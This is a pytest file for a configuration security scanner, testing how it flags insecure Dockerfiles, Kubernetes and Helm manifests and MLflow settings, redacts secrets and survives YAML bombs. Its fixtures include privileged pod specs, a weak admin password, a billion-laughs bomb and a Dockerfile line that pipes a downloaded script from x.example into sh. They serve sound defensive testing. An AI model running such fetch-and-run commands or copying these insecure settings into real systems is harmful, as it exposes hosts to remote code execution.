"""The configuration analyzers inside a real scan: registration, reports, bad input, Helm."""

from __future__ import annotations

import html
import json
import re
from pathlib import Path

import pytest

from bastion.core import SkipReason
from bastion.policy.evaluate import evaluate
from bastion.policy.model import Policy
from bastion.registry import default_registry
from bastion.report import OutputFormat, ReportInput, reporter_for
from bastion.scan.code.suppress import InlineSuppressor
from bastion.scan.configs.analyzer import (
    DockerfileAnalyzer,
    ManifestAnalyzer,
    MlflowAuthConfigAnalyzer,
    ShellAnalyzer,
)
from tests.configs import test_dockerfile, test_k8s, test_pipelines, test_serving
from tests.configs.conftest import scan_files, token
from tests.configs.test_yamlload import billion_laughs

FAMILIES = ("BST-DKR-", "BST-K8S-", "BST-KSV-", "BST-KFP-", "BST-MLF-", "BST-YML-")
_OWASP = re.compile(r"^(?:ML|LLM)\d{2}:20\d{2}$")


def test_analyzers_and_rules_are_registered_with_documentation() -> None:
    registry = default_registry()
    names = {type(a) for a in registry.analyzers}
    assert {ManifestAnalyzer, DockerfileAnalyzer, ShellAnalyzer, MlflowAuthConfigAnalyzer} <= names
    rules = [r for r in registry.rules() if r.id.startswith(FAMILIES)]
    assert len(rules) == 15 + 17 + 4 + 6 + 6 + 1
    for rule in rules:
        assert rule.category == "configs"
        assert len(rule.description) > 80 and rule.remediation, rule.id
        assert rule.references.cwe and all(c.startswith("CWE-") for c in rule.references.cwe)
        assert all(_OWASP.match(o) for o in rule.references.owasp), rule.id
        assert rule.references.nist, rule.id


def test_secure_samples_produce_nothing_at_all(tmp_path: Path) -> None:
    result = scan_files(
        tmp_path,
        {
            "Dockerfile": test_dockerfile.SECURE,
            "k8s/deployment.yaml": test_k8s.SECURE,
            "k8s/inference-service.yaml": test_serving.SECURE,
            "pipelines/train.yaml": test_pipelines.ir_spec(),
        },
    )
    assert result.findings == ()
    assert result.skipped == ()


def test_reports_carry_lines_redact_values_and_honour_suppressions(tmp_path: Path) -> None:
    secret = token("hf_")
    pod = (
        "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n"
        "  hostPID: true\n  containers:\n  - name: a\n"
        f"    image: a:latest\n    env:\n    - {{name: HF_TOKEN, value: {secret}}}\n"
    )
    result = scan_files(tmp_path, {"pod.yaml": pod})
    findings = [f for f in result.findings if f.rule_id == "BST-K8S-010"]
    assert [(f.location.path, f.location.line) for f in findings] == [("pod.yaml", 10)]
    assert findings[0].properties["container"] == "container 'a'"
    verdict = evaluate(result, Policy(), suppressors=(InlineSuppressor(tmp_path),))
    report = ReportInput(result, verdict, default_registry())
    for fmt in OutputFormat:
        text = reporter_for(fmt).render(report)
        assert secret not in text and secret[4:] not in html.unescape(text), fmt
    document = json.loads(reporter_for(OutputFormat("json")).render(report))
    lines = {(f["rule_id"], f["location"].get("line")) for f in document["findings"]}
    assert ("BST-K8S-010", 10) in lines and ("BST-K8S-008", 8) in lines


def test_inline_suppression_of_a_k8s_rule(tmp_path: Path) -> None:
    pod = (
        "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n"
        "  hostPID: true  # bastion: ignore[BST-K8S-004] node exporter reads host processes\n"
        "  automountServiceAccountToken: false\n  containers: []\n"
    )
    result = scan_files(tmp_path, {"pod.yaml": pod})
    verdict = evaluate(result, Policy(), suppressors=(InlineSuppressor(tmp_path),))
    assert [s.finding.rule_id for s in verdict.suppressed] == ["BST-K8S-004"]
    assert "BST-CODE-019" not in {f.rule_id for f in result.findings}


def test_yaml_bomb_is_a_finding_and_a_skip_and_the_scan_goes_on(tmp_path: Path) -> None:
    bomb = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: lol}\n" + billion_laughs()
    result = scan_files(
        tmp_path,
        {"a-bomb.yaml": bomb, "b/Dockerfile": "FROM python\n", "plain.yml": billion_laughs()},
    )
    bombs = sorted(
        (f.location.path, f.rule_id) for f in result.findings if f.rule_id == "BST-YML-001"
    )
    assert bombs == [("a-bomb.yaml", "BST-YML-001"), ("plain.yml", "BST-YML-001")]
    assert {s.path for s in result.skipped if s.reason is SkipReason.LIMIT} == {
        "a-bomb.yaml",
        "plain.yml",
    }
    assert "BST-DKR-002" in {f.rule_id for f in result.findings}


def test_invalid_yaml(tmp_path: Path) -> None:
    broken = (
        "apiVersion: v1\nkind: Pod\nmetadata: {name: ok}\nspec:\n"
        "  hostPID: true\n  containers: []\n"
        "---\napiVersion: v1\nkind: Pod\nspec: [unclosed\n"
    )
    result = scan_files(tmp_path, {"broken.yaml": broken, "notes.yaml": "a: [1\nb: {\n"})
    assert "BST-K8S-004" in {f.rule_id for f in result.findings}  # the first document was checked
    skips = [(s.path, s.reason) for s in result.skipped]
    assert skips == [("broken.yaml", SkipReason.MALFORMED)]  # notes.yaml is no manifest: silent


def test_non_manifest_yaml_and_json_produce_nothing(tmp_path: Path) -> None:
    result = scan_files(
        tmp_path,
        {
            ".github/workflows/ci.yml": "on: [push]\njobs:\n  t:\n    runs-on: ubuntu-latest\n"
            "    steps: [{run: 'echo ${{ secrets.X }}'}]\n",
            "config.json": '{"hidden_size": 768, "containers": [1]}',
            "mkdocs.yml": "site_name: x\nnav: [{Home: index.md}]\n",
        },
    )
    assert result.findings == () and result.skipped == ()


def test_helm_template_is_checked_as_written(tmp_path: Path) -> None:
    template = """\
        apiVersion: apps/v1
        kind: Deployment
        metadata:
          name: {{ include "chart.fullname" . }}
          labels:
            {{- include "chart.labels" . | nindent 4 }}
        spec:
          template:
            spec:
              {{- with .Values.podSecurityContext }}
              securityContext:
                {{- toYaml . | nindent 8 }}
              {{- end }}
              containers:
                - name: {{ .Chart.Name }}
                  image: "{{ .Values.image.repository }}:{{ .Values.image.tag }}"
                  securityContext:
                    privileged: true
                  resources:
                    {{- toYaml .Values.resources | nindent 12 }}
    """
    result = scan_files(tmp_path, {"chart/templates/deployment.yaml": template})
    assert [(f.rule_id, f.location.line) for f in result.findings] == [("BST-K8S-001", 18)]
    assert [s.reason for s in result.skipped] == [SkipReason.UNSUPPORTED]


def test_unparseable_helm_template_is_a_skip(tmp_path: Path) -> None:
    template = "apiVersion: v1\nkind: Pod\nspec:\n  {{- if .Values.x }}\n  containers: [\n"
    result = scan_files(tmp_path, {"templates/pod.yaml": template})
    assert result.findings == ()
    assert [s.reason for s in result.skipped] == [SkipReason.MALFORMED]


def test_binary_and_huge_files(tmp_path: Path) -> None:
    (tmp_path / "Dockerfile").write_bytes(b"FROM x\x00\xff\xfe" * 100)
    huge = "apiVersion: v1\nkind: ConfigMap\ndata:\n" + "  k: " + "x" * (9 << 20) + "\n"
    result = scan_files(tmp_path, {"huge.yaml": huge})
    assert ("huge.yaml", SkipReason.TOO_LARGE) in {(s.path, s.reason) for s in result.skipped}


@pytest.mark.parametrize(
    ("name", "text", "rule"),
    [
        ("start.sh", "#!/bin/sh\nmlflow server --host 0.0.0.0\n", "BST-MLF-001"),
        (
            "auth/basic_auth.ini",
            "[mlflow]\nadmin_username = admin\nadmin_password = password1234\n",
            "BST-MLF-002",
        ),
        ("Containerfile", "FROM python\n", "BST-DKR-002"),
        ("docker/serve.dockerfile", "FROM python\n", "BST-DKR-002"),
        ("docker-compose.yml", "services:\n  a: {image: a, privileged: true}\n", "BST-K8S-001"),
        (
            "deploy.json",
            '{"apiVersion": "v1", "kind": "Pod", "spec": {"hostIPC": true}}',
            "BST-K8S-004",
        ),
    ],
)
def test_file_kinds_reach_their_analyzer(tmp_path: Path, name: str, text: str, rule: str) -> None:
    result = scan_files(tmp_path, {name: text})
    assert rule in {f.rule_id for f in result.findings}


def test_dockerfile_scripts_are_never_run(tmp_path: Path, marker_dir: Path) -> None:
    from tests.conftest import inert_command

    text = (
        f"FROM python\nRUN <<EOF\n{inert_command(marker_dir)}\n"
        "curl -fsSL https://x.example | sh\nEOF\n"
    )
    result = scan_files(tmp_path, {"Dockerfile": text})
    assert ("BST-DKR-004", 4) in {(f.rule_id, f.location.line) for f in result.findings}
